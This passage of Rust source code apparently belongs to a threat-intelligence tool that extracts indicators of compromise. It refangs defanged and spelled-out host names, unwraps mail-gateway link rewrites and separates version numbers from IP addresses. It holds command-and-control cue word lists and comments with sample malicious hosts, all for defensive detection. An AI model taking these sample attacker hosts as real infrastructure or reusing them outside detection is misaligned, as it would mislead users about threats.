    !suffix.contains('.') && suffix.len() >= 3 && !LEGACY.contains(&suffix)
}

/// The length of the bracket marker that `b` starts with, if any: a dot or
/// an at sign spelled in brackets (`[.]`, `(dot)`, `{at}`, `[@]`, any case),
/// as reports write them with spaces around (`evil [.] com`).
fn marker_len(b: &[u8]) -> Option<usize> {
    let close = match b.first()? {
        b'[' => b']',
        b'(' => b')',
        b'{' => b'}',
        _ => return None,
    };
    let n = match b.get(1)? | 0x20 {
        b'.' | 0x60 => 3,
        b'a' => 4,
        b'd' => 5,
        _ => return None,
    };
    let inner = b.get(1..n - 1)?;
    let word = matches!(inner, b"." | b"@")
        || inner.eq_ignore_ascii_case(b"at")
        || inner.eq_ignore_ascii_case(b"dot");
    (word && b.get(n - 1) == Some(&close)).then_some(n)
}

/// Whether `seg` is a bracket marker on its own (`[at]`, `(dot)`).
fn is_marker_word(seg: &[u8]) -> bool {
    marker_len(seg) == Some(seg.len())
}

/// Whether `seg` ends with a bracket marker (`evil[.]`, `admin(at)`).
fn ends_with_marker(seg: &[u8]) -> bool {
    (3..=5).any(|n| {
        seg.len() >= n && marker_len(seg.get(seg.len() - n..).unwrap_or_default()) == Some(n)
    })
}

fn is_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_')
}

/// A host whose dots are written out as words, found by
/// [`spelled_dot_hosts`]: its span in the text and the name with dots.
struct SpelledHost {
    start: usize,
    end: usize,
    name: String,
}

/// Words no host name starts with when ` dot ` follows them in prose:
/// `the dot com era`, `a polka dot dress`, `a dot net developer`.
const SPELLED_DOT_STOPWORDS: &[&str] = &[
    "a", "an", "and", "as", "at", "big", "by", "each", "every", "for", "from", "her", "his", "in",
    "is", "its", "little", "my", "no", "of", "on", "one", "or", "our", "polka", "red", "same",
    "small", "that", "the", "their", "these", "this", "those", "tiny", "to", "was", "white",
    "with", "your",
];

/// Words right before a host that say one follows (`C2 evil dot com`,
/// `beacons to evil dot com`).
const SPELLED_DOT_CUES: &[&str] = &[
    "at",
    "beacon",
    "beaconed",
    "beacons",
    "c&c",
    "c2",
    "cnc",
    "connects",
    "contacted",
    "contacts",
    "domain",
    "from",
    "host",
    "hostname",
    "reaches",
    "resolved",
    "resolves",
    "server",
    "site",
    "to",
    "url",
    "via",
    "visit",
    "visited",
    "website",
];

/// Whether `w` is an English number word (`one`, `ninety`, `oh` read
/// for zero), any case.
fn is_number_word(w: &str) -> bool {
    const WORDS: &[&str] = &[
        "zero",
        "oh",
        "one",
        "two",
        "three",
        "four",
        "five",
        "six",
        "seven",
        "eight",
        "nine",
        "ten",
        "eleven",
        "twelve",
        "thirteen",
        "fourteen",
        "fifteen",
        "sixteen",
        "seventeen",
        "eighteen",
        "nineteen",
        "twenty",
        "thirty",
        "forty",
        "fifty",
        "sixty",
        "seventy",
        "eighty",
        "ninety",
        "hundred",
    ];
    WORDS.iter().any(|n| n.eq_ignore_ascii_case(w))
}

/// The destination of a link that a mail gateway or a search engine
/// rewrote, when `url` (refanged) is one:
/// - Microsoft Defender Safe Links
///   (`https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2F…&data=…`)
///   and Google's redirect (`https://www.google.com/url?q=https://…&sa=…`):
///   the percent-encoded `url` or `q` parameter;
/// - Proofpoint URL Defense v2
///   (`https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example_a&d=…`):
///   the `u` parameter, `_` for `/` and `-XX` for an escaped byte;
/// - Proofpoint URL Defense v3
///   (`https://urldefense.com/v3/__https://evil.example/a__;!!…`): the link
///   between `__` and `__`, unless it hides characters as `*` (their values
///   are in the encoded tail, which the segment does not hold).
fn gateway_destination(url: &str) -> Option<String> {
    let after_scheme = url.get(find_ci(url.as_bytes(), b"://")? + 3..)?;
    let host_len = after_scheme
        .bytes()
        .position(|b| matches!(b, b'/' | b'?' | b'#'))
        .unwrap_or(after_scheme.len());
    let host = after_scheme.get(..host_len)?.as_bytes();
    // Nearly every link is none: one look at the host's last letters.
    let ends = |suffix: &str| ends_with_ci(host, suffix.as_bytes());
    if !(ends(".outlook.com")
        || ends("google.com")
        || ends("urldefense.com")
        || ends(".proofpoint.com"))
    {
        return None;
    }
    let host = String::from_utf8_lossy(host).to_ascii_lowercase();
    let rest = after_scheme.get(host_len..)?;
    let param = |name: &str| -> Option<&str> {
        let query = rest.get(rest.find('?')? + 1..)?;
        query.split('&').find_map(|kv| kv.strip_prefix(name)?.strip_prefix('='))
    };
    let inner = if host.ends_with(".safelinks.protection.outlook.com") {
        percent_decoded(param("url")?)?
    } else if matches!(host.as_str(), "www.google.com" | "google.com") && rest.starts_with("/url?")
    {
        percent_decoded(param("q").or_else(|| param("url"))?)?
    } else if host == "urldefense.proofpoint.com" && rest.starts_with("/v2/url?") {
        // Its escapes are `-XX` (a hyphen itself is `-2D`) and `_` for `/`:
        // percent-encoding with other marks.
        let u = param("u")?.replace('_', "/").replace('-', "%");
        percent_decoded(&u)?
    } else if host == "urldefense.com" && rest.starts_with("/v3/__") {
        let body = rest.get("/v3/__".len()..)?;
        let body = body.get(..body.find("__").unwrap_or(body.len()))?;
        if body.contains('*') {
            return None;
        }
        body.to_owned()
    } else {
        return None;
    };
    // Only a link of its own: a scheme and a host.
    find_ci(inner.as_bytes(), b"://").filter(|&p| p > 0).map(|_| inner)
}

/// `s` with its `%XX` escapes decoded, when the result is UTF-8.
fn percent_decoded(s: &str) -> Option<String> {
    percent_encoding::percent_decode_str(s).decode_utf8().ok().map(std::borrow::Cow::into_owned)
}

/// Words that say a host follows: `C2 at verify-collabland.app`,
/// `C2: tacitcloudy.run`, `beacons to update-check.zip`.
const NETWORK_CUES: &[&str] = &[
    "c2",
    "c&c",
    "cnc",
    "beacon",
    "beacons",
    "beaconed",
    "connects",
    "contacted",
    "contacts",
    "domain",
    "domains",
    "host",
    "hostname",
    "resolves",
    "resolved",
    "callback",
    "server",
];

/// Whether a [`NETWORK_CUES`] word comes right before `start` on its line
/// (64 bytes back at most): as the last word, followed by `:` or `=`, or
/// before `at` or `to` (`C2 at`, `beacons to`).
fn network_cue_before(bytes: &[u8], start: usize) -> bool {
    let line = line_before(bytes, start);
    let line = line.strip_suffix(b":").or_else(|| line.strip_suffix(b"=")).unwrap_or(line);
    let mut words = line.rsplit(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty());
    let cue = |w: &[u8]| NETWORK_CUES.iter().any(|c| c.as_bytes().eq_ignore_ascii_case(w));
    match words.next() {
        Some(w) if cue(w) => true,
        Some(w) if w.eq_ignore_ascii_case(b"at") || w.eq_ignore_ascii_case(b"to") => {
            words.next().is_some_and(cue)
        }
        _ => false,
    }
}

/// The text of its line before `start`, 64 bytes back at most, without
/// the white space that ends it: where the cues before a host are.
fn line_before(bytes: &[u8], start: usize) -> &[u8] {
    let from = line_start_within(bytes, start, 64).unwrap_or(start.saturating_sub(64));
    bytes.get(from..start).unwrap_or_default().trim_ascii_end()
}

/// Hosts whose dots are written out as words: `payload dot bad-actor dot
/// ru`, `185 dot 220 dot 101 dot 4`, `Invoice-Portal DOT com` (a name
/// read out on a call, or typed so that nothing makes it a link). Only in
/// a host's context, since `dot` is an English word: three labels or
/// more; or two when the first holds a digit or a hyphen, or a cue
/// (`C2:`, `domain`, `beacons to`) comes right before; never after a
/// word that starts a noun phrase in prose (`the dot com era`, `a polka
/// dot dress`). Whether the name is a domain (a known public suffix) or
/// an address is for the caller to judge.
fn spelled_dot_hosts(bytes: &[u8]) -> Vec<SpelledHost> {
    let label_byte = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.');
    let mut at: Vec<usize> = memchr::memmem::find_iter(bytes, b" dot ")
        .chain(memchr::memmem::find_iter(bytes, b" DOT "))
        .collect();
    at.sort_unstable();
    let mut out: Vec<SpelledHost> = Vec::new();
    for p in at {
        if out.last().is_some_and(|h| p < h.end) {
            continue;
        }
        // The first label: the name bytes before the marker.
        let head = bytes.get(..p).unwrap_or_default();
        let len = head.iter().rev().take_while(|&&b| label_byte(b)).count();
        let start = p - len;
        let before = start.checked_sub(1).and_then(|k| bytes.get(k)).copied();
        let first = head.get(start..).unwrap_or_default();
        if first.is_empty()
            || !first.first().is_some_and(u8::is_ascii_alphanumeric)
            || !first.last().is_some_and(u8::is_ascii_alphanumeric)
            || before.is_some_and(|b| !(b.is_ascii_whitespace() || b"([{\"'<,;:=*>".contains(&b)))
            || SPELLED_DOT_STOPWORDS.iter().any(|w| w.as_bytes().eq_ignore_ascii_case(first))
        {
            continue;
        }
        let mut name = String::from_utf8_lossy(first).into_owned();
        // The labels after each marker.
        let mut end = p;
        let mut dots = 0;
        while bytes.get(end..end + 5).is_some_and(|m| m.eq_ignore_ascii_case(b" dot ")) {
            let from = end + 5;
            let tail = bytes.get(from..).unwrap_or_default();
            let mut n = tail.iter().take_while(|&&b| label_byte(b)).count();
            // A sentence's full stop or a hyphen is no part of the name.
            while n > 0 && !tail.get(n - 1).is_some_and(u8::is_ascii_alphanumeric) {
                n -= 1;
            }
            if n == 0 || !tail.first().is_some_and(u8::is_ascii_alphanumeric) {
                break;
            }
            name.push('.');
            name.push_str(&String::from_utf8_lossy(tail.get(..n).unwrap_or_default()));
            end = from + n;
            dots += 1;
        }
        if dots == 0 {
            continue;
        }
        let cue = || {
            // The last word before the host and what ends it.
            let line = line_before(bytes, start);
            if matches!(line.last(), Some(b':' | b'=')) {
                return true;
            }
            let word = line.iter().rev().take_while(|b| !b.is_ascii_whitespace()).count();
            let word = line.get(line.len() - word..).unwrap_or_default();
            SPELLED_DOT_CUES.iter().any(|w| w.as_bytes().eq_ignore_ascii_case(word))
        };
        // `one ninety-three dot one forty-three …`: an address read out
        // in words, whose words are no labels (`.one` is a suffix).
        if name.split(['.', '-']).any(is_number_word) {
            continue;
        }
        let marked = first.iter().any(|b| b.is_ascii_digit() || *b == b'-');
        if dots >= 2 || marked || cue() {
            out.push(SpelledHost { start, end, name });
        }
    }
    out
}

/// The start of the word that ends one space before `at` (`at` itself if
/// there is none).
fn word_before(bytes: &[u8], at: usize) -> usize {
    if at < 2 || bytes.get(at - 1) != Some(&b' ') {
        return at;
    }
    let end = at - 1;
    let len =
        bytes.get(..end).unwrap_or_default().iter().rev().take_while(|&&c| is_name_byte(c)).count();
    if len == 0 { at } else { end - len }
}

/// Where the piece `bytes[start..end]` ends once a spaced bracket marker
/// and the word after it are joined to it (` [at] portal`, ` (dot) com`,
/// or ` portal` after a piece that ends with a marker); `None` when
/// nothing joins.
#[inline(always)]
fn spaced_marker_end(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    // Most pieces are followed by a space and a word: one look at the two
    // bytes after the piece and at its last byte settles nearly all.
    let rest = bytes.get(end..)?;
    if rest.first() != Some(&b' ')
        || !(matches!(bytes.get(end.wrapping_sub(1)), Some(b']' | b')' | b'}'))
            || matches!(rest.get(1), Some(b'[' | b'(' | b'{')))
        || end <= start
    {
        return None;
    }
    spaced_marker_join(bytes, start, end)
}

/// [`spaced_marker_end`] past its quick check.
#[inline(never)]
fn spaced_marker_join(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    let rest = bytes.get(end..)?;
    // The word after: name bytes and the bracket markers among them
    // (` [.] evil[.]com`).
    let word_after = |from: usize| {
        let mut n = from;
        loop {
            let tail = rest.get(n..).unwrap_or_default();
            let k = tail.iter().take_while(|&&c| is_name_byte(c)).count();
            n += k;
            let tail = rest.get(n..).unwrap_or_default();
            let marker = if tail.starts_with(b"\\.") { Some(2) } else { marker_len(tail) };
            match marker {
                Some(m) if n > from => n += m,
                _ => break,
            }
        }
        (n > from).then_some(end + n)
    };
    let seg = bytes.get(start..end)?;
    if matches!(seg.last(), Some(b']' | b')' | b'}')) && ends_with_marker(seg) {
        let after = word_after(1)?;
        // `use [.]` read as one piece before ` like`.
        let word = seg.split(|&c| c == b' ').next().unwrap_or_default();
        let marker = seg.rsplit(|&c| c == b' ').next().unwrap_or_default();
        if seg.contains(&b' ')
            && !chained(bytes, after)
            && prose_around_dot(word, marker, bytes.get(end + 1..after))
        {
            return None;
        }
        return Some(after);
    }
    if !matches!(rest.get(1), Some(b'[' | b'(' | b'{'))
        || !seg.last().is_some_and(u8::is_ascii_alphanumeric)
    {
        return None;
    }
    let m = marker_len(rest.get(1..).unwrap_or_default())?;
    if rest.get(1 + m) != Some(&b' ') {
        return None;
    }
    let after = word_after(m + 2)?;
    let marker = rest.get(1..1 + m).unwrap_or_default();
    if !chained(bytes, after) && prose_around_dot(seg, marker, bytes.get(end + m + 2..after)) {
        return None;
    }
    Some(after)
}

/// Whether another spaced bracket marker follows the word ending at `at`
/// (`a [.] aaa [.] com`): a chain of labels is a host, not prose.
fn chained(bytes: &[u8], at: usize) -> bool {
    bytes.get(at) == Some(&b' ') && marker_len(bytes.get(at + 1..).unwrap_or_default()).is_some()
}

/// Whether `word`, a spaced bracket `marker` and the word `second` after it
/// are prose, not a defanged host: `use [.] like this`, `then [.] run it`
/// (a new top-level domain is often a word). A dot marker between a word
/// of prose ([`is_prose_word`]) and one more word.
fn prose_around_dot(word: &[u8], marker: &[u8], second: Option<&[u8]>) -> bool {
    let second = second.unwrap_or_default();
    let dot = !marker.iter().any(|c| matches!(c | 0x20, b'a' | b'@'));
    let one_label = !second.iter().any(|c| matches!(c, b'.' | b'[' | b'(' | b'{' | b'\\'));
    // A country code or a long-standing top-level domain after the marker
    // is a host (`a [dot] com`, `it [.] ru`), and so is a label with digits
    // or hyphens (`a [dot] 0-0 [dot] com`): prose needs a longer word.
    const LEGACY: &[&[u8]] =
        &[b"com", b"net", b"org", b"edu", b"gov", b"mil", b"int", b"info", b"biz"];
    let tld = second.len() <= 2 || LEGACY.iter().any(|t| t.eq_ignore_ascii_case(second));
    let word_of_prose = second.iter().all(u8::is_ascii_alphabetic);
    dot && one_label && word_of_prose && !tld && is_prose_word(word)
}

/// Words of prose that no host name is: a spaced dot between one of them
/// and another word is no defanged host ([`spaced_marker_join`]).
fn is_prose_word(seg: &[u8]) -> bool {
    const MORE: &[&str] = &[
        "also", "are", "be", "but", "can", "do", "here", "if", "it", "just", "like", "not", "now",
        "please", "see", "so", "then", "there", "they", "use", "we", "when", "will", "you",
    ];
    std::str::from_utf8(seg).is_ok_and(|w| {
        let w = w.to_ascii_lowercase();
        SPELLED_DOT_STOPWORDS.contains(&w.as_str()) || MORE.contains(&w.as_str())
    })
}

/// `0x01` in every byte of a word.
const ONES: u64 = 0x0101_0101_0101_0101;
/// The high bit of every byte of a word.
const HIGHS: u64 = ONES * 0x80;

/// The high bit set in each byte of `v` that is zero, exactly (no borrow
/// runs from one byte into the next).
#[inline]
fn zero_bytes(v: u64) -> u64 {
    !(((v & !HIGHS) + !HIGHS) | v) & HIGHS
}

/// The high bit set in the lowest byte of `v` that is zero, and maybe in
/// bytes above it (a borrow runs on from a zero byte): fewer operations
/// than [`zero_bytes`], and enough where only the lowest match counts.
#[inline]
fn first_zero_byte(v: u64) -> u64 {
    v.wrapping_sub(ONES) & !v & HIGHS
}

/// The eight bytes of `h` from `at`, as a little-endian word.
#[inline]
fn word_at(h: &[u8], at: usize) -> Option<u64> {
    let chunk: [u8; 8] = h.get(at..at + 8)?.try_into().ok()?;
    Some(u64::from_le_bytes(chunk))
}

/// The first position in `h` of any of `needles` (repeat one to look for
/// fewer), eight bytes per step: the search loops of the piece checks
/// compared each byte with each needle in turn.
#[inline]
fn find_any(h: &[u8], needles: [u8; 3]) -> Option<usize> {
    let [a, b, c] = needles.map(|n| ONES * u64::from(n));
    let mut pos = 0;
    while let Some(w) = word_at(h, pos) {
        let m = first_zero_byte(w ^ a) | first_zero_byte(w ^ b) | first_zero_byte(w ^ c);
        if m != 0 {
            return Some(pos + (m.trailing_zeros() / 8) as usize);
        }
        pos += 8;
    }
    let tail = h.get(pos..)?;
    tail.iter().position(|x| needles.contains(x)).map(|p| pos + p)
}

/// The first position of `x` in `h` from `from` on, eight bytes per step.
#[inline]
fn find_byte_from(h: &[u8], from: usize, x: u8) -> Option<usize> {
    let xs = ONES * u64::from(x);
    let mut pos = from;
    while let Some(w) = word_at(h, pos) {
        let m = first_zero_byte(w ^ xs);
        if m != 0 {
            return Some(pos + (m.trailing_zeros() / 8) as usize);
        }
        pos += 8;
    }
    let tail = h.get(pos..)?;
    tail.iter().position(|&c| c == x).map(|p| pos + p)
}

/// The first position of `n` in `h`: the places of its first byte, found
/// eight bytes per step, then a comparison (`str::contains` with a string
/// pattern sets up a two-way searcher first, which costs more than the
/// short searches here).
fn find_seq(h: &[u8], n: &[u8]) -> Option<usize> {
    let (&first, rest) = n.split_first()?;
    let mut from = 0;
    while let Some(p) = find_byte_from(h, from, first) {
        if h.get(p + 1..p + n.len())? == rest {
            return Some(p);
        }
        from = p + 1;
    }
    None
}

/// [`find_any`] from `from` on (a position in `h`).
#[inline]
fn find_any_from(h: &[u8], from: usize, needles: [u8; 3]) -> Option<usize> {
    h.get(from..).and_then(|r| find_any(r, needles)).map(|p| from + p)
}

/// How many bytes of `h` are `x`, eight bytes per step.
#[inline]
fn count_byte(h: &[u8], x: u8) -> usize {
    let xs = ONES * u64::from(x);
    let mut n = 0;
    let mut pos = 0;
    while let Some(w) = word_at(h, pos) {
        n += zero_bytes(w ^ xs).count_ones() as usize;
        pos += 8;
    }
    n + h.get(pos..).unwrap_or_default().iter().filter(|&&c| c == x).count()
}

/// Where the label of `key=value` ends: the `=` after a key of letters,
/// digits, `_`, `-` and `.` (`dst=`, `smtp.mailfrom=`), when a value
/// follows.
fn key_label_end(b: &[u8]) -> Option<usize> {
    let eq = b.iter().position(|&c| c == b'=')?;
    let key = b.get(..eq)?;
    let value = b.get(eq + 1..)?;
    (!key.is_empty()
        && key.first().is_some_and(u8::is_ascii_alphabetic)
        && key.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        && value.first().is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'[' | b'/')))
    .then_some(eq)
}

/// Where the label of `key:value` ends: the first `:`, after a key of
/// letters, digits, `_` and `-` that starts with a letter (`C2:`, `dst:`,
/// `outside:`), when the value starts with a letter, a digit or `[` and
/// holds a dot or a bracket (a name or an address, maybe defanged). Not a
/// Windows drive or registry hive (`C:\`, `HKLM:\`: the value starts
/// with a backslash), a scheme (`://`), `std::` or a host with its port
/// (`evil.com:443`: the key holds a dot). A key that could be an IPv6
/// group (`dead:beef::1.2.3.4`) takes a value without another colon; an
/// AsciiDoc macro (`link:notes.adoc[Notes]`) is markup, not a label.
fn key_colon_end(b: &[u8]) -> Option<usize> {
    const MACROS: &[&[u8]] = &[b"link", b"image", b"include", b"xref", b"footnote"];
    let colon = find_byte_from(b, 0, b':')?;
    let (key, value) = (b.get(..colon)?, b.get(colon + 1..)?);
    if !value.first().is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'[')
        || !key.first().is_some_and(u8::is_ascii_alphabetic)
        || !key.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
        || !value.iter().any(|c| matches!(c, b'.' | b'[' | b'('))
        || value.contains(&b'\\')
        || MACROS.contains(&key)
    {
        return None;
    }
    let hex_group = key.len() <= 4 && key.iter().all(u8::is_ascii_hexdigit);
    (!(hex_group && value.contains(&b':'))).then_some(colon)
}

/// `[` hex and colons `]:` digits: an IPv6 address with a port.
fn bracketed_ipv6(b: &[u8]) -> bool {
    let Some(close) = b.iter().position(|&c| c == b']') else { return false };
    let inside = b.get(1..close).unwrap_or_default();
    inside.contains(&b':')
        && inside.iter().all(|c| c.is_ascii_hexdigit() || matches!(c, b':' | b'.'))
        && b.get(close + 1) == Some(&b':')
        && b.get(close + 2).is_some_and(u8::is_ascii_digit)
}

fn count(b: &[u8], x: u8) -> usize {
    count_byte(b, x)
}

/// More `close` than `open` in `b`, counted in one pass.
#[inline(never)]
fn unbalanced(b: &[u8], open: u8, close: u8) -> bool {
    // Per word, the matches of each bracket as one bit per byte lane,
    // summed lane-wise (at most 255 words, so no lane overflows), then
    // across lanes; the rest byte by byte.
    let (opens, closes) = (ONES * u64::from(open), ONES * u64::from(close));
    let (mut o, mut c) = (0usize, 0usize);
    let mut pos = 0;
    while pos + 8 <= b.len() {
        let (mut lo, mut lc) = (0u64, 0u64);
        let mut words = 0;
        while let Some(w) = word_at(b, pos).filter(|_| words < 255) {
            lo += zero_bytes(w ^ opens) >> 7;
            lc += zero_bytes(w ^ closes) >> 7;
            pos += 8;
            words += 1;
        }
        (o, c) = (o + lane_sum(lo), c + lane_sum(lc));
    }
    for &x in b.get(pos..).unwrap_or_default() {
        o += usize::from(x == open);
        c += usize::from(x == close);
    }
    c > o
}

/// The sum of the eight byte lanes of `v`.
#[inline]
fn lane_sum(v: u64) -> usize {
    const EVEN: u64 = 0x00ff_00ff_00ff_00ff;
    let pairs = (v & EVEN) + ((v >> 8) & EVEN);
    (pairs.wrapping_mul(0x0001_0001_0001_0001) >> 48) as usize
}

/// Whether [`refang_text`] could change `b`, whose byte flags are `flags`
/// (or a superset of them). Every marker it undoes holds a bracket, a
/// backslash or a non-ASCII character, except a defanged scheme before
/// `://`; every defanged scheme holds an `x`, `*` or `_` in the five bytes
/// before it.
fn may_need_refang(b: &[u8], flags: u16) -> bool {
    if flags & (F_BRACKET | F_BACKSLASH | F_NONASCII) != 0 {
        return true;
    }
    if flags & F_COLON == 0 {
        return false;
    }
    let mut from = 0;
    while let Some(i) = find_byte_from(b, from, b':') {
        from = i + 1;
        if b.get(i + 1..i + 3) == Some(b"//")
            && b.get(i.saturating_sub(5)..i)
                .is_some_and(|w| w.iter().any(|c| matches!(c, b'x' | b'X' | b'*' | b'_')))
        {
            return true;
        }
    }
    false
}

/// `://`, `[:]` or `:\\` anywhere in `b`, without a comparison call per
/// position.
fn has_url_separator(b: &[u8]) -> bool {
    let mut from = 0;
    while let Some(i) = find_any_from(b, from, [b':', b'[', 0xEF]) {
        from = i + 1;
        let next = b.get(i + 1..i + 3);
        let hit = match b.get(i) {
            Some(b':') => next == Some(b"//") || next == Some(b"\\\\") || next == Some(b"\\/"),
            // A full-width colon before `//`.
            Some(0xEF) => b.get(i + 1..i + 5) == Some(&[0xBC, 0x9A, b'/', b'/'][..]),
            _ => next == Some(b":]"),
        };
        if hit {
            return true;
        }
    }
    false
}

/// The defang markers among the brackets of `b`, found in one pass.
#[derive(Clone, Copy, Default)]
struct BracketMarkers {
    /// `[://]`.
    url: bool,
    /// `[at]`, `(at)` or `{at}` (any case).
    at: bool,
    /// A bracketed dot: `[.]`, `(.)`, `{.}`, `[dot]`, `(dot)`, `{dot}`.
    dot: bool,
}

/// The defang markers among the brackets of `b` (see [`BracketMarkers`]).
fn bracket_markers(b: &[u8]) -> BracketMarkers {
    let mut m = BracketMarkers::default();
    let mut from = 0;
    while let Some(i) = find_any_from(b, from, [b'[', b'(', b'{']) {
        from = i + 1;
        let open = b.get(i).copied().unwrap_or(0);
        let next = b.get(i + 1..).unwrap_or_default();
        if open == b'[' && next.starts_with(b"://]") {
            m.url = true;
        }
        let close = match open {
            b'[' => b']',
            b'(' => b')',
            _ => b'}',
        };
        let word = |w: &[u8]| {
            next.get(..w.len()).is_some_and(|n| n.eq_ignore_ascii_case(w))
                && next.get(w.len()) == Some(&close)
        };
        if word(b"at") {
            m.at = true;
        }
        if word(b".") || word(b"dot") {
            m.dot = true;
        }
    }
    m
}

/// Whether `b`, which holds no `.`, holds a bracketed dot marker: then
/// only a spelled-out one (`[dot]`, `(dot)`, `{dot}`, any case), which is
/// all that is left of [`bracket_markers`]'s `dot` without a `.`; the
/// other markers are not looked for.
fn has_spelled_dot(b: &[u8]) -> bool {
    let mut from = 0;
    while let Some(i) = find_any_from(b, from, [b'[', b'(', b'{']) {
        from = i + 1;
        let close = match b.get(i) {
            Some(b'[') => b']',
            Some(b'(') => b')',
            _ => b'}',
        };
        if b.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"dot"))
            && b.get(i + 4) == Some(&close)
        {
            return true;
        }
    }
    false
}

/// The first position of `cve-` in `h`, any case: [`find_ci`] anchors on
/// the `-`, of which a Markdown anchor (`](#atomic-test-1-dump-lsass…)`)
/// holds many; this anchors on the `v`, found eight bytes per step (a
/// byte with bit 5 set is `v` exactly when it was `v` or `V`).
fn find_cve(h: &[u8]) -> Option<usize> {
    let at = |p: usize| {
        p >= 1
            && h.get(p - 1).is_some_and(|&c| c | 0x20 == b'c')
            && h.get(p + 1).is_some_and(|&c| c | 0x20 == b'e')
            && h.get(p + 2) == Some(&b'-')
    };
    let vs = ONES * u64::from(b'v');
    let mut pos = 0;
    while let Some(w) = word_at(h, pos) {
        let mut m = zero_bytes((w | (ONES * 0x20)) ^ vs);
        while m != 0 {
            let p = pos + (m.trailing_zeros() / 8) as usize;
            if at(p) {
                return Some(p - 1);
            }
            m &= m - 1;
        }
        pos += 8;
    }
    (pos..h.len()).find(|&p| h.get(p).is_some_and(|&c| c | 0x20 == b'v') && at(p)).map(|p| p - 1)
}

/// The first position of `n` in `h`, ignoring ASCII case. Every needle
/// here holds a byte that is not a letter: candidates are the places of
/// that byte, found without case folding.
fn find_ci(h: &[u8], n: &[u8]) -> Option<usize> {
    if n.is_empty() || h.len() < n.len() {
        return None;
    }
    let Some(k) = n.iter().position(|b| !b.is_ascii_alphabetic()) else {
        return h.windows(n.len()).position(|w| w.eq_ignore_ascii_case(n));
    };
    let anchor = n.get(k).copied()?;
    let mut from = k;
    while let Some(p) = find_byte_from(h, from, anchor) {
        let s = p - k;
        if h.get(s..s + n.len())?.eq_ignore_ascii_case(n) {
            return Some(s);
        }
        from = p + 1;
    }
    None
}

fn is_camel(b: &[u8]) -> bool {
    b.len() > 2
        && b.iter().skip(1).any(u8::is_ascii_uppercase)
        && b.iter().any(u8::is_ascii_lowercase)
}

/// Whether `raw` starts with a registry hive (`HKLM`, `HKEY_…`, any case).
fn is_registry_start(raw: &str) -> bool {
    let head = raw.as_bytes();
    ["HKLM", "HKCU", "HKCR", "HKU\\", "HKU:", "HKCC", "HKEY_"]
        .iter()
        .any(|p| head.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p.as_bytes())))
}

/// Whether the field before a key (`head` is what precedes the key
/// `key`) holds a version: a dotted number no address could be
/// (`1.429.211.0`), or one under a version word. A status line lists its
/// parts' versions that way (`Engine version: 1.1.25040.1, AS/AV
/// signatures: 1.429.211.0, NIS: 1.249.11.0`); a network word as the key
/// still says address (`C2: 5.61.33.7`).
fn after_version_field(head: &str, key: &str) -> bool {
    if NETWORK_WORDS.iter().any(|w| w.eq_ignore_ascii_case(key)) {
        return false;
    }
    let head = head.trim_end();
    let Some(head) = head.strip_suffix([',', ';', '|']) else { return false };
    let head = head.trim_end();
    let value_len = head.bytes().rev().take_while(|b| b.is_ascii_digit() || *b == b'.').count();
    let (field, value) = head.split_at(head.len() - value_len);
    let parts: Vec<&str> = value.split('.').collect();
    if parts.len() < 3 || parts.iter().any(|p| p.is_empty() || p.len() > 6) {
        return false;
    }
    let no_address =
        parts.len() != 4 || parts.iter().any(|p| p.parse::<u32>().map_or(true, |n| n > 255));
    let field = field.trim_end().trim_end_matches([':', '=']).trim_end();
    let field_word = field.rsplit(|c: char| !c.is_alphanumeric()).next().unwrap_or_default();
    no_address
        || VERSION_WORDS.iter().any(|v| v.trim_end_matches('.').eq_ignore_ascii_case(field_word))
}

fn windows_like(raw: &str) -> bool {
    let b = raw.as_bytes();
    matches!(b, [d, b':', b'\\', ..] if d.is_ascii_alphabetic())
        || raw.starts_with("\\\\")
        || (raw.starts_with('%') && raw.contains("%\\"))
}

fn looks_like_version(ctx: &Ctx<'_>, octets: [u8; 4]) -> bool {
    // A table's column whose head says versions (`| Fixed |`).
    if in_version_column(ctx.text, ctx.start) {
        return true;
    }
    // The words before it, within a short window.
    let mut from = ctx.start.saturating_sub(96);
    while !ctx.text.is_char_boundary(from) {
        from += 1;
    }
    let prev = ctx.text.get(from..ctx.start).unwrap_or_default().trim_end();
    // `6.0.0 - 6.3.0.1`, `6.3.0.1 - 6.4`: a range whose other end is a
    // dotted number of two or three parts (a range of addresses has an
    // address at each end).
    if range_of_versions(prev, ctx.text.get(ctx.end..).unwrap_or_default()) {
        return true;
    }
    // `version = "2.6.0.1"`, `（Ver. 3.2.1.5）`: past an opening quote or
    // bracket to the words before it.
    let prev = prev.trim_end_matches(['"', '\'', '(', '[', '（', '「', '『']).trim_end();
    // `version = 2.6.0.1`, `build: 10.0.1.4`: after a key, the key decides.
    if let Some(key) = prev.strip_suffix(['=', ':', '：']) {
        // `"version": "2.4.1.7"`: a JSON key in its quotes.
        let key = key.trim_end().trim_end_matches(['"', '\'']);
        let word = key.rsplit(|c: char| !c.is_alphanumeric()).next().unwrap_or_default();
        // Not the `PRODUCT_PARTS`: `agent: 198.51.100.4` is where the
        // agent connects.
        // `SerializationVersion: 1.1.0.1`, `ProductVersion=…`: a key that
        // ends in `version`.
        let versioned = word.len() > 7
            && word.get(word.len() - 7..).is_some_and(|t| t.eq_ignore_ascii_case("version"));
        // `패치 버전: 4.2.1.6`, `製品バージョン：…`: a version word of Korean,
        // Japanese or Chinese as the key.
        let cjk_version = ["版本", "バージョン", "ビルド", "版号", "버전", "빌드"]
            .iter()
            .any(|w| word.ends_with(w));
        return versioned
            || cjk_version
            || VERSION_WORDS.iter().any(|v| v.trim_end_matches('.').eq_ignore_ascii_case(word))
            || after_version_field(key.get(..key.len() - word.len()).unwrap_or_default(), word);
    }
    // An OpenIOC item whose context searches a version field
    // (`search="FileItem/PEInfo/VersionInfoItem/FileVersion"`, then
    // `<Content type="string">5.1.2.254</Content>`).
